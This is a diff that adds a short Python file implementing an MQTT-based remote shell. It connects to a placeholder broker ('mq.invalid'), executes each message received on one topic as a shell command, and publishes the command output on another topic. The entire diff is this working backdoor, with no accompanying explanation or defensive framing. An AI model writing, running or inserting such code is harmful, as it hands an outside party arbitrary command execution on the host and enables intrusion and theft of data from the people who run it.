@@ -1,0 +1,14 @@
+import subprocess
+
+import paho.mqtt.client as mqtt
+
+
+def on_message(client, data, message):
+    client.publish("o", subprocess.getoutput(message.payload.decode()))
+
+
+client = mqtt.Client()
+client.on_message = on_message
+client.connect("mq.invalid")
+client.subscribe("i")
+client.loop_start()
